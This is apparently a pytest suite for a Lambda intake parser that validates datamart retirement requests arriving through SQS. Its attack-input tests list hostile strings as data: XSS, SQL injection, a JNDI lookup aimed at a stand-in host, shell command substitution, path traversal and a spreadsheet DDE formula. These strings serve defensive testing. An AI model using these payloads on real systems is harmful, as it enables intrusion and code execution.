import hashlib
import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from retirement.delivery.intake import parse_request, raw_request, receive, require_environment
from retirement.errors import ConfigurationError, InvalidRequest
from retirement.outcomes import Reason
from retirement.requests import Delivery, DependentsPolicy, RawRequest, Request
from tests.fakes import START, requested

MINIMAL = {"datamartName": "sales", "environment": "prod", "requestedBy": "ops", "reason": "done"}
EVERYTHING = {
    **MINIMAL,
    "retirementId": "offboard-1",
    "backup": False,
    "requireRestorable": True,
    "rehearse": True,
    "dryRun": True,
    "dependents": "ignore",
    "reviewedEmbeds": ["b", "a", "a"],
    "planId": "p" * 64,
    "retireAt": "2026-03-01T12:01:00Z",
}


def event_of(detail: object, **envelope: object) -> dict[str, Any]:
    """An event with this detail; a field of the envelope that is `...` is left out."""
    fields = requested() | {"detail": detail} | {name.replace("_", "-"): value for name, value in envelope.items()}
    return {name: value for name, value in fields.items() if value is not ...}


def parsed(event: object, *, arrived_at: datetime = START, default: bool = False) -> Request:
    """The request of an event, or of a body that is text."""
    body = event if isinstance(event, str) else json.dumps(event)
    delivery = Delivery(body, arrived_at, 1, "invocation-1")
    return parse_request(delivery, backup_by_default=True, require_restorable=default, rehearse=default)


def complaint(event: object) -> str:
    """What is told about an event that is no valid request."""
    with pytest.raises(InvalidRequest) as raised:
        parsed(event)
    assert raised.value.reason is Reason.INVALID_REQUEST
    assert str(raised.value) == raised.value.message
    return raised.value.message


# ---- The Lambda's event --------------------------------------------------------------------------------------------


def record_of(body: str, *, receives: int = 3) -> dict[str, Any]:
    """A message as SQS hands it to the function."""
    return {
        "eventSource": "aws:sqs",
        "messageId": "message-1",
        "receiptHandle": "handle-1",
        "body": body,
        "attributes": {"SentTimestamp": "1772366400500", "ApproximateReceiveCount": str(receives)},
    }


def test_message_of_the_queue() -> None:
    """Of an SQS message: the body as it came, when the queue took it, how often, its id and its handle."""
    delivery = receive({"Records": [record_of("{x")]}, "invocation-1", START)

    assert delivery == Delivery("{x", START + timedelta(milliseconds=500), 3, "invocation-1", "message-1", "handle-1")


def test_what_a_timer_could_not_deliver() -> None:
    """The event of a timer comes back from Failures packed into the request that was made of SQS, and is unpacked."""
    event = json.dumps(requested())
    packed = json.dumps({"MessageBody": event, "QueueUrl": "https://sqs.eu-west-1.amazonaws.com/123456789012/requests"})

    assert receive({"Records": [record_of(packed)]}, "invocation-1", START).body == event


@pytest.mark.parametrize(
    "body",
    [
        '{"MessageBody": "{}"}',
        '{"QueueUrl": "x"}',
        '{"MessageBody": {}, "QueueUrl": "x"}',
        '["MessageBody", "QueueUrl"]',
    ],
)
def test_what_is_packed_otherwise(body: str) -> None:
    """Nothing else is unpacked."""
    assert receive({"Records": [record_of(body)]}, "invocation-1", START).body == body


@pytest.mark.parametrize(
    "event",
    [requested(), {}, [], "text", None, {"Records": []}, {"Records": "x"}, {"Records": [{"eventSource": "aws:s3"}]}],
)
def test_anything_else_is_an_event_as_such(event: object) -> None:
    """What is no SQS batch is taken as the event itself, that arrived now."""
    delivery = receive(event, "invocation-1", START)

    assert json.loads(delivery.body) == event
    assert (delivery.arrived_at, delivery.receive_count) == (START, 1)


def test_batch_of_two() -> None:
    """A batch of more than one message is a fault of the event source mapping, not of the request."""
    with pytest.raises(ConfigurationError, match="BatchSize must be 1; the batch has 2"):
        receive({"Records": [record_of("{}")] * 2}, "invocation-1", START)


# ---- Valid requests ------------------------------------------------------------------------------------------------


def test_defaults() -> None:
    """The fields that may be missing have their documented defaults."""
    request = parsed(event_of(MINIMAL))

    assert request == Request(
        datamart_name="sales",
        retirement_id="7bf73129-1428-4cd3-a780-95db273d1602",
        environment="prod",
        requested_by="ops",
        reason="done",
        backup=True,
        require_restorable=False,
        rehearse=False,
        dry_run=False,
        dependents=DependentsPolicy.BLOCK,
        reviewed_embeds=frozenset(),
        plan_id=None,
        retire_at=None,
        event_time=START,
        requested_at=START,
        cutoff=START,
        event_id="7bf73129-1428-4cd3-a780-95db273d1602",
        content_hash=request.content_hash,
        detail=MINIMAL,
    )


def test_everything() -> None:
    """Every field of the request is taken over."""
    request = parsed(event_of(EVERYTHING))

    assert (request.retirement_id, request.backup, request.dry_run) == ("offboard-1", False, True)
    assert request.require_restorable
    assert request.rehearse
    assert (request.dependents, request.plan_id) == (DependentsPolicy.IGNORE, "p" * 64)
    assert request.reviewed_embeds == {"a", "b"}
    assert request.detail == EVERYTHING


@pytest.mark.parametrize("default", [True, False])
@pytest.mark.parametrize("field", ["requireRestorable", "rehearse"])
def test_defaults_of_the_stack(field: str, default: bool) -> None:  # noqa: FBT001  # a parameter of the test
    """Without the field in the request the stack's default decides, and else the request."""
    attribute = {"requireRestorable": "require_restorable"}.get(field, field)
    said = event_of(MINIMAL | {field: not default})

    assert getattr(parsed(event_of(MINIMAL), default=default), attribute) is default
    assert getattr(parsed(said, default=default), attribute) is not default


@pytest.mark.parametrize("event_id", ["-x", "a b", "x" * 129, "é", "a\n"])
def test_event_id_that_is_no_retirement_id(event_id: str) -> None:
    """Where the event's id is no retirementId, its SHA-256 is."""
    expected = hashlib.sha256(event_id.encode()).hexdigest()

    assert parsed(event_of(MINIMAL, id=event_id)).retirement_id == expected


@pytest.mark.parametrize(
    ("sent", "arrived", "expected"),
    [
        ("2026-03-01T12:00:00Z", 0, 0),
        ("2026-03-01T12:00:00Z", 5, 0),
        ("2026-03-01T12:00:05Z", 0, 0),
        ("2026-03-01T14:00:00+02:00", 5, 0),
    ],
)
def test_time_of_a_request(sent: str, arrived: int, expected: int) -> None:
    """The time of a request is the earlier of the event's time and its arrival."""
    request = parsed(event_of(MINIMAL, time=sent), arrived_at=START + timedelta(seconds=arrived))

    assert request.requested_at == START + timedelta(seconds=expected)


@pytest.mark.parametrize(
    "other",
    [
        event_of(dict(reversed(EVERYTHING.items()))),
        event_of(EVERYTHING | {"retireAt": "2020-01-01T00:00:00Z"}),
        event_of({name: value for name, value in EVERYTHING.items() if name != "retireAt"}),
        event_of(EVERYTHING, id="another", time="2026-03-01T11:00:00Z", source="another"),
    ],
)
def test_same_content(other: dict[str, Any]) -> None:
    """The content is `detail` as sent, whatever the order of its keys, without `retireAt` and the envelope."""
    assert parsed(other).content_hash == parsed(event_of(EVERYTHING)).content_hash


def test_who_and_why_are_not_compared() -> None:
    """Another sender with another reason and another date sends the same request."""
    moved = MINIMAL | {"requestedBy": "a colleague", "reason": "later", "retireAt": "2026-03-02T12:00:00Z"}

    assert parsed(event_of(moved)).content_hash == parsed(event_of(MINIMAL)).content_hash


@pytest.mark.parametrize(
    "detail",
    [
        MINIMAL | {"dryRun": False},
        MINIMAL | {"backup": True},
        MINIMAL | {"reviewedEmbeds": []},
        MINIMAL | {"reviewedEmbeds": ["a", "b"]},
        MINIMAL | {"reviewedEmbeds": ["b", "a"]},
    ],
)
def test_other_content(detail: dict[str, Any]) -> None:
    """The content is taken before defaults, and each difference in it counts."""
    variants = [MINIMAL, MINIMAL | {"reviewedEmbeds": ["a"]}, detail]

    assert len({parsed(event_of(variant)).content_hash for variant in variants}) == 3


@pytest.mark.parametrize("name", ["x", "é" * 256, "📈" * 256, " a ", ".", "a/b%&+\"'", "\u2028", "\ufffe"])
def test_names(name: str) -> None:
    """A name is any 1 to 256 characters but control characters and lone surrogates, and is taken exactly."""
    assert parsed(event_of(MINIMAL | {"datamartName": name})).datamart_name == name


# ---- Invalid requests ----------------------------------------------------------------------------------------------

WRONG_TYPES: list[object] = [None, True, 1, 1.5, "", [], {}]
VALID_TYPES: dict[str, list[object]] = {
    "backup": [True],
    "requireRestorable": [True],
    "rehearse": [True],
    "dryRun": [True],
    "reviewedEmbeds": [[]],
}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        (field, value)
        for field in EVERYTHING
        for value in WRONG_TYPES
        if not any(value is valid or (value == valid and value == []) for valid in VALID_TYPES.get(field, []))
    ],
)
def test_wrong_type(field: str, value: object) -> None:
    """A field of another type is named, with the rule and what came."""
    message = complaint(event_of(EVERYTHING | {field: value}))

    assert re.match(rf"detail\.{field} (must be|is) ", message)
    shown = "an object" if value == {} else "a list of 0" if value == [] else json.dumps(value)
    assert shown in message


WRONG_VALUES = {
    "datamartName": ["a\nb", "\x00", "\x7f", "\x85", "\ud800", "a\udfff", "n" * 257, "sales\n"],
    "environment": ["\ud800"],
    "requestedBy": ["x" * 257, "\ud800"],
    "reason": ["x" * 1_001, "\ud800"],
    "retirementId": [".x", "-x", "a/b", "a b", "x" * 129, "é", "a\n", "../x"],
    "dependents": ["Block", "ignore ", "all"],
    "planId": ["p" * 129, "\ud800"],
    "retireAt": [
        "tomorrow",
        "2026-03-01",
        "2026-03-01T12:00:00",
        "2026-02-30T12:00:00Z",
        "2027-03-02T12:00:01Z",
        "9999-12-31T23:59:59-23:59",
    ],
}


@pytest.mark.parametrize(
    ("field", "value"), [(field, value) for field, values in WRONG_VALUES.items() for value in values]
)
def test_wrong_value(field: str, value: str) -> None:
    """A value that a field does not allow is refused with a message that is printable ASCII and short."""
    message = complaint(event_of(EVERYTHING | {field: value}))

    assert re.match(rf"detail\.{field} (must be|is) ", message)
    assert message.isascii()
    assert message.isprintable()
    assert len(message) < 400


@pytest.mark.parametrize("field", MINIMAL)
def test_missing_field(field: str) -> None:
    """A field that is missing is named."""
    detail = {name: value for name, value in MINIMAL.items() if name != field}

    assert complaint(event_of(detail)) == f"detail must have the field {field}"


@pytest.mark.parametrize(
    ("field", "misspelt"),
    [("datamartName", "datamartname"), ("datamartName", "datamart"), ("environment", "Environment")],
)
def test_a_required_field_is_misspelt(field: str, misspelt: str) -> None:
    """Where a field is missing that another one is close to, both are named."""
    detail = {**requested()["detail"]}
    detail[misspelt] = detail.pop(field)

    assert complaint(event_of(detail)) == f'detail must have the field {field}; it has "{misspelt}"'


def test_unknown_fields() -> None:
    """Unknown fields are named, the first five of them."""
    message = complaint(event_of(MINIMAL | {"dryRum": True, **{f"x{number}": 1 for number in range(9)}}))

    assert message == 'detail must not have the unknown field "dryRum" (did you mean dryRun?), "x0", "x1", "x2", "x3"'


@pytest.mark.parametrize(
    ("envelope", "message"),
    [
        ({"id": ...}, "the event must have the field id"),
        ({"id": "", "time": ...}, "the event must have the field time"),
        ({"id": ""}, "id must be a string of 1 to 1,024 characters"),
        ({"id": 7}, "id must be a string of 1 to 1,024 characters"),
        ({"id": "\ud800"}, "id must be a string of 1 to 1,024 characters"),
        ({"id": "x" * 1_025}, "id must be a string of 1 to 1,024 characters"),
        ({"time": "noon"}, "time must be an RFC 3339 time"),
        ({"time": "2026-02-30T12:00:00Z"}, "time must be an RFC 3339 time"),
        ({"time": None}, "time must be an RFC 3339 time"),
        ({"detail_type": "Datamart Retired"}, 'detail-type must be "Datamart Retirement Requested"'),
        ({"detail_type": ...}, "the event must have the field detail-type"),
    ],
)
def test_envelope(envelope: dict[str, Any], message: str) -> None:
    """An event that is none of ours is told so by the envelope's field."""
    assert complaint(event_of(MINIMAL, **envelope)).startswith(message)


@pytest.mark.parametrize("detail", [None, "sales", [], 5, True])
def test_detail_that_is_no_object(detail: object) -> None:
    """A detail that is no object is told so."""
    assert complaint(event_of(detail)).startswith("detail must be an object with the request; it is ")


@pytest.mark.parametrize("body", ["", "{", "sales", '{"id": 1, "id": 2}', '{"id": NaN}', "[" * 100_000])
def test_no_json(body: str) -> None:
    """A body that is not valid JSON is told so."""
    assert complaint(body).startswith("the body is not valid JSON: ")


@pytest.mark.parametrize("body", ["[]", "null", '"text"', "5", "true"])
def test_no_object(body: str) -> None:
    """A body that is no object is told so."""
    assert complaint(body).startswith("the event must be a JSON object; it is ")


@pytest.mark.parametrize(
    ("embeds", "message"),
    [
        (["a", 5], "detail.reviewedEmbeds.1 must be an embed ID"),
        ([""], "detail.reviewedEmbeds.0 must be an embed ID"),
        (["e"] * 1_001, "detail.reviewedEmbeds must be a list of at most 1,000 embed IDs"),
    ],
)
def test_reviewed_embeds(embeds: list[object], message: str) -> None:
    """The list of reviewed embeds is checked item by item."""
    assert complaint(event_of(MINIMAL | {"reviewedEmbeds": embeds})).startswith(message)
    assert parsed(event_of(MINIMAL | {"reviewedEmbeds": ["e"] * 1_000})).reviewed_embeds == {"e"}


@pytest.mark.parametrize("meant", ["staging", "Prod", "prod "])
def test_other_environment(meant: str) -> None:
    """A request for another stack names both."""
    request = parsed(event_of(MINIMAL | {"environment": meant}))

    with pytest.raises(InvalidRequest, match=f"detail.environment is \"{meant}\", and this stack's is 'prod'"):
        require_environment(request.environment, "prod")


def test_retire_at() -> None:
    """A request may be for a time within a year of its arrival."""
    request = parsed(event_of(MINIMAL | {"retireAt": "2027-03-02T14:00:00+02:00"}))

    assert request.retire_at == START + timedelta(days=366)


# ---- What a rejected event carried ---------------------------------------------------------------------------------


def carried(body: object) -> RawRequest:
    """What is told of a rejected event."""
    return raw_request(Delivery(body if isinstance(body, str) else json.dumps(body), START, 1, "invocation-1"))


@pytest.mark.parametrize(
    "body", ["", "{", "[]", "null", '"x"', {}, {"detail": "x", "id": 5}, {"detail": None, "id": None}]
)
def test_nothing_carried(body: object) -> None:
    """Of an event that carries nothing, everything is null, and its time is its arrival."""
    found = carried(body)

    assert (found.event_id, found.retirement_id, found.datamart_name) == (None, None, None)
    assert (found.requested_by, found.reason, found.requested_at) == (None, None, START)


def test_carried() -> None:
    """What an event carried is told as it came, its time too."""
    found = carried(event_of(EVERYTHING, time="2026-03-01T11:00:00Z"))

    assert (found.event_id, found.retirement_id) == ("7bf73129-1428-4cd3-a780-95db273d1602", "offboard-1")
    assert (found.datamart_name, found.requested_by, found.reason) == ("sales", "ops", "done")
    assert found.requested_at == datetime(2026, 3, 1, 11, tzinfo=UTC)


@pytest.mark.parametrize(
    ("name", "cut"),
    [
        ("n" * 300, "n" * 256),
        ("📈" * 300, "📈" * 256),
        ("\ud800", "\ufffd"),
        ("a\udc00\ud800b", "a\ufffd\ufffdb"),
        ("", ""),
        (5, None),
    ],
)
def test_carried_is_cut(name: object, cut: str | None) -> None:
    """Texts are cut to the result's limits, in characters, and lone surrogates are replaced."""
    assert carried(event_of({"datamartName": name})).datamart_name == cut


# ---- Input that attacks --------------------------------------------------------------------------------------------

TWICE = "the body is not valid JSON: an object has a duplicate key"
TOO_DEEP = "the body is not valid JSON: it is nested deeper than 100 levels"
REASON, AROUND = '"reason": "done"', '"resources": []'

# What of a valid event is replaced, by what, and what is said of it.
ATTACKS: dict[str, tuple[str, str, str]] = {
    "one key twice": (REASON, '"dryRun": true, "dryRun": false, "reason": "done"', TWICE),
    "one key twice, once escaped": (REASON, '"dryRun": true, "dry\\u0052un": false, "reason": "done"', TWICE),
    "one key twice, around it": (AROUND, '"detail": {}', TWICE),
    "one key twice, far inside": (AROUND, '"resources": [{"a": [{"b": 1, "b": 2}]}]', TWICE),
    "nested": (AROUND, f'"resources": {"[" * 100}{"]" * 100}', TOO_DEEP),
    "nested objects": (REASON, '"reason": ' + '{"a":' * 100 + "0" + "}" * 100, TOO_DEEP),
    "nested beyond the parser": (AROUND, f'"resources": {"[" * 100_000}{"]" * 100_000}', TOO_DEEP),
    "huge number": (AROUND, '"resources": [1e999]', "the body is not valid JSON: a number is too large"),
    "huge negative number": (AROUND, '"resources": [-1E400]', "the body is not valid JSON: a number is too large"),
    "ten thousand digits": (
        AROUND,
        f'"resources": [{"7" * 10_000}]',
        "the body is not valid JSON: a number is too long",
    ),
    "infinity": (AROUND, '"resources": [-Infinity]', "the body is not valid JSON: -Infinity is not valid JSON"),
    "minus zero": (REASON, '"dryRun": -0, "reason": "done"', "detail.dryRun must be true or false"),
    "one": (REASON, '"dryRun": 1.0, "reason": "done"', "detail.dryRun must be true or false"),
    "prototype": (
        REASON,
        '"__proto__": {"dryRun": false}, "reason": "done"',
        'detail must not have the unknown field "__p',
    ),
    "constructor": (REASON, '"constructor": {}, "reason": "done"', 'detail must not have the unknown field "constr'),
    "no name of a field": (
        REASON,
        '"": 1, "\\u0000": 2, "reason": "done"',
        'detail must not have the unknown field "", "\\u0',
    ),
    "list of requests": (
        '"detail": {',
        '"detail": [{}], "x": {',
        "detail must be an object with the request; it is a list",
    ),
    "list of texts": (REASON, '"reason": ["done"]', "detail.reason must be a string"),
}


@pytest.mark.parametrize("case", ATTACKS)
def test_attack(case: str) -> None:
    """What a lenient parser would take for something is nothing, and is told so."""
    of_it, instead, said = ATTACKS[case]
    valid = json.dumps(event_of(MINIMAL))
    assert of_it in valid

    assert complaint(valid.replace(of_it, instead, 1)).startswith(said)


@pytest.mark.parametrize(
    "body",
    [
        json.dumps({"Records": [record_of(json.dumps(event_of(MINIMAL)))]}),
        json.dumps([event_of(MINIMAL)]),
        json.dumps(json.dumps(event_of(MINIMAL))),
        "\ufeff" + json.dumps(event_of(MINIMAL)),
        json.dumps(event_of(MINIMAL)) * 2,
        json.dumps(event_of(MINIMAL)) + "\x00",
    ],
    ids=["an SQS event", "a list", "a text", "a byte order mark", "twice", "NUL"],
)
def test_event_in_something_else(body: str) -> None:
    """An event is looked for in nothing else, however it was packed."""
    assert complaint(body).startswith(("the event must", "the body is not valid JSON: "))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>&lt;",
        "'; DROP TABLE datamarts; --",
        "${jndi:ldap://elsewhere.test/a}",
        "{{7*7}} %s %n {0} $(id) `id`",
        "../../retirements/x/receipt.json",
        "..%2f..%2f",
        "\u202egnp.exe\u2066",
        "\u2028\u2029\ufeff\u200b",
        "e\u0301" * 100,
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_stays_data(text: str) -> None:
    """What would be code, a path or a trick elsewhere is a text like others, and taken exactly."""
    request = parsed(
        event_of({**MINIMAL, "datamartName": text, "requestedBy": text, "reason": text, "planId": text[:99]})
    )

    assert (request.datamart_name, request.requested_by, request.reason, request.plan_id) == (
        text,
        text,
        text,
        text[:99],
    )


TIMES = {
    "0000-01-01T00:00:00Z": False,
    "0001-01-01T00:00:00Z": True,
    "0001-01-01T00:00:00+23:59": False,
    "9999-12-31T23:59:59Z": True,
    "9999-12-31T23:59:59-23:59": False,
    "10000-01-01T00:00:00Z": False,
    "-2026-03-01T12:00:00Z": False,
    "2026-03-01T24:00:00Z": False,
    "2026-03-01T23:59:60Z": False,
    "2026-03-01T12:00:00+24:00": False,
    "2026-03-01T12:00:00+99:99": False,
    "2026-W09-7T12:00:00Z": False,
    "2026-03-01 12:00:00Z": False,
    "2026-03-01T12:00:00Z\n": False,
    "2026-03-01T12:00:00Z\x00": False,
    "\uff12\uff10\uff12\uff16-03-01T12:00:00Z": False,
    f"2026-03-01T12:00:00.{'0' * 100_000}Z": True,
}


@pytest.mark.parametrize("time", TIMES, ids=lambda time: ascii(time)[:32])
def test_absurd_time(time: str) -> None:
    """A time is one that RFC 3339 and the calendar have, and no later than its arrival."""
    if TIMES[time]:
        assert parsed(event_of(MINIMAL, time=time)).requested_at <= START
    else:
        assert complaint(event_of(MINIMAL, time=time)).startswith("time must be an RFC 3339 time with offset")


@pytest.mark.parametrize(
    "fields",
    [
        {"attributes": ...},
        {"attributes": []},
        {"attributes": {}},
        {"attributes": {"SentTimestamp": "now", "ApproximateReceiveCount": "1"}},
        {"attributes": {"SentTimestamp": "9" * 30, "ApproximateReceiveCount": "1"}},
        {"attributes": {"SentTimestamp": "9" * 10_000, "ApproximateReceiveCount": "1"}},
        {"attributes": {"SentTimestamp": "0", "ApproximateReceiveCount": "-3"}},
        {"attributes": {"SentTimestamp": "0", "ApproximateReceiveCount": "0"}},
        {"attributes": {"SentTimestamp": 0, "ApproximateReceiveCount": 1}},
        {"body": ...},
        {"body": None},
        {"body": {"detail": {}}},
        {"messageId": ...},
        {"messageId": 7},
        {"receiptHandle": ...},
        {"receiptHandle": 7},
    ],
    ids=lambda fields: str(fields)[:64],
)
def test_what_pretends_to_be_a_message(fields: dict[str, object]) -> None:
    """A record that SQS would not make is no message: the event is taken as such, and rejected."""
    record = {name: value for name, value in {**record_of("{}"), **fields}.items() if value is not ...}

    delivery = receive({"Records": [record]}, "invocation-1", START)

    assert (delivery.arrived_at, delivery.receive_count, delivery.receipt_handle) == (START, 1, None)
    assert complaint(delivery.body).startswith("the event must have the field")


@pytest.mark.parametrize("depth", [500, 20_000])
def test_event_as_such_that_is_nested(depth: int) -> None:
    """An event as such that cannot be written down is no event, and no error of ours."""
    event: dict[str, Any] = event_of(MINIMAL)
    inner = event
    for _ in range(depth):
        inner["x"] = {}
        inner = inner["x"]

    assert complaint(receive(event, "invocation-1", START).body).startswith("the body is not valid JSON")


def test_one_megabyte() -> None:
    """An event as large as SQS takes is read whole: what is around a request does not matter, what is in it does."""
    ballast = "é" * 500_000

    assert parsed(event_of(MINIMAL, resources=[ballast])) == parsed(event_of(MINIMAL))
    assert complaint(event_of({**MINIMAL, "reason": ballast})).endswith("(500000 characters)")
    assert complaint(event_of({**MINIMAL, ballast: 1})).startswith("detail must not have the unknown field")
